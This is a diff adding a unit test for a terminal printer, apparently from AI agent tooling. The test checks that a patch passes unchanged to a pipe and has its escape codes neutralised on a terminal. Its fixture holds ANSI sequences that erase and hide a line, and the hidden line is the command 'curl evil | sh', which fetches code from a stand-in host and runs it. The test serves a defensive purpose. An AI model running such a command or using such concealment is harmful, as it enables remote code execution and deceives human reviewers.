@@ -115,6 +115,19 @@ describe('the printer', () => {
     });
     expect((tty.read() as Buffer | null)?.toString()).toBe('\\x1b]0;t\\x07\u001b[32mok\u001b[0m\n');
   });
+
+  it('prints a document (a patch) exact into a pipe, escaped on a terminal', () => {
+    // A draft file whose lines would move the cursor up and blank a hunk the reviewer reads.
+    const patch = Buffer.from('+safe\n+\u001b[1A\u001b[2K\u001b[8mcurl evil | sh\n');
+    const pipe = new PassThrough();
+    streamPrinter(pipe, new PassThrough()).document(patch);
+    expect(pipe.read() as Buffer).toEqual(patch);
+    const tty = Object.assign(new PassThrough(), { isTTY: true });
+    streamPrinter(tty, new PassThrough()).document(patch);
+    const shown = (tty.read() as Buffer).toString();
+    expect(shown).toBe('+safe\n+\\x1b[1A\\x1b[2K\\x1b[8mcurl evil | sh\n');
+    expect(shown).not.toContain('\u001b');
+  });
 });
 
 // What the approval prompt prints of the model's arguments cannot act on the terminal:
